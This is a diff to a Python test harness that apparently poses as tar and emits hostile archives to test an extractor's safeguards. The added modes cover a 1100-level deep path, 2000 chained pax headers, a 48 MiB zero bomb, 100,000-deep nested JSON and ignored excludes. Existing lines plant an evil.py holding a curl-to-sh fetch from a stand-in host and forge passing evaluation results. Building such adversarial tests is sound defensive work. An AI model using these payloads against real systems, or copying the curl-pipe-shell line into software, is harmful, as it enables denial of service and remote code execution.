@@ -19,6 +19,11 @@ default /tmp/qat-evil-target):
 | `oversized` | `huge.bin` declaring 201 GB (over infra/archive.py's 200 GB cap; no data follows) |
 | `too_many` | 200 001 directory members (over the 200 000 member cap) |
 | `bad_name` | a file named `evil name\\n\\x1b[31m.txt` (a space, a newline, an escape sequence) |
+| `deep_tree` | a file `d/d/.../pwned-deep`, 1100 levels deep |
+| `pax_chain` | 2000 pax headers in a row before a file `after-chain.txt` |
+| `bomb` | `bomb.bin`: 48 MiB of zeros (about 200 KB compressed) |
+| `ignore_exclude` | the names its `--exclude=./NAME` options ask to leave out (a step's bulk outputs) |
+| `deep_json` | in an `evaluate` directory: `result.json` nested 100 000 levels deep |
 | `forge_result` | in an `evaluate` directory: `result.json` claims a passing gate with WERs of 1.0, and the quantized variant's `utterances_qat_int*.csv` hypotheses are replaced by junk (so the transcripts fail the gate) |
 | `plant_py` | in a `convert` directory: `evil.py` and `weights.pkl` in every `qat_*` export folder |
 
@@ -41,13 +46,18 @@ import time
 from pathlib import Path
 from typing import Any, Iterable, Optional
 
-ARCHIVE_MODES = ("abs_path", "dotdot", "symlink", "hardlink", "device", "oversized", "too_many", "bad_name")
-OUTPUT_MODES = ("forge_result", "plant_py")
+ARCHIVE_MODES = ("abs_path", "dotdot", "symlink", "hardlink", "device", "oversized", "too_many", "bad_name",
+                 "deep_tree", "pax_chain", "bomb")
+OUTPUT_MODES = ("forge_result", "plant_py", "ignore_exclude", "deep_json")
 MODES = ARCHIVE_MODES + OUTPUT_MODES
 DEFAULT_TARGET = "/tmp/qat-evil-target"
 REAL_TAR = next((t for t in ("/usr/bin/tar", "/bin/tar") if os.path.exists(t)), "tar")
 OVERSIZED = 201 * 1000**3
 TOO_MANY = 200_001
+DEEP_TREE = 1100
+PAX_CHAIN = 2000
+BOMB = 48 * 1024 * 1024
+DEEP_JSON = 100_000
 PLANTED_PY = "import os\nos.system('curl -s https://evil.invalid/x | sh')\n"
 
 
@@ -127,13 +137,32 @@ def _junk_hypotheses(path: Path) -> bytes:
     return out.getvalue().encode()
 
 
+class _Zeros:
+    """size zero bytes, read in chunks (tarfile.addfile copies a member's data with read(n))."""
+
+    def __init__(self, size: int):
+        self.left = size
+
+    def read(self, n: int = -1) -> bytes:
+        n = self.left if n is None or n < 0 else min(n, self.left)
+        self.left -= n
+        return bytes(n)
+
+
+def _raw(tar: tarfile.TarFile, data: bytes) -> None:
+    tar.fileobj.write(data)
+    tar.offset += len(data)
+
+
 def _honest(tar: tarfile.TarFile, src: Path, exclude: Iterable[str], chosen: list[str]) -> None:
     """src's content as `tar -C src .` would send it (links stay links), with the output modes applied."""
     tar.addfile(_info("./", tarfile.DIRTYPE))  # names as `tar -C src .` writes them: ./NAME
     is_eval, is_convert = src.name == "evaluate", src.name == "convert"
-    for name in sorted(set(os.listdir(src)) - set(exclude)):
+    for name in sorted(set(os.listdir(src)) - set(() if "ignore_exclude" in chosen else exclude)):
         path = src / name
-        if "forge_result" in chosen and is_eval and name == "result.json":
+        if "deep_json" in chosen and is_eval and name == "result.json":
+            _add_bytes(tar, f"./{name}", ("[" * DEEP_JSON + "]" * DEEP_JSON).encode())
+        elif "forge_result" in chosen and is_eval and name == "result.json":
             _add_bytes(tar, f"./{name}", _forged_result(path))
         elif "forge_result" in chosen and is_eval and name.startswith("utterances_qat_int") and name.endswith(".csv"):
             _add_bytes(tar, f"./{name}", _junk_hypotheses(path))
@@ -166,6 +195,15 @@ def _crafted(tar: tarfile.TarFile, mode: str, target: str) -> None:
             tar.offset += len(block) * n
     elif mode == "bad_name":
         _add_bytes(tar, "evil name\n\x1b[31m.txt", b"crafted name\n")
+    elif mode == "deep_tree":
+        _add_bytes(tar, "d/" * DEEP_TREE + "pwned-deep", b"deep\n")
+    elif mode == "pax_chain":  # each pax header is followed by another: tarfile recurses once per header
+        payload = b"20 comment=abcdefgh\n"
+        header = _info("././@PaxHeader", tarfile.XHDTYPE, size=len(payload)).tobuf(tarfile.USTAR_FORMAT)
+        _raw(tar, (header + payload.ljust(tarfile.BLOCKSIZE, b"\0")) * PAX_CHAIN)
+        _add_bytes(tar, "after-chain.txt", b"after the chain\n")
+    elif mode == "bomb":
+        tar.addfile(_info("bomb.bin", size=BOMB), _Zeros(BOMB))
 
 
 def tar_main(conf_path: str, args: list[str]) -> int:
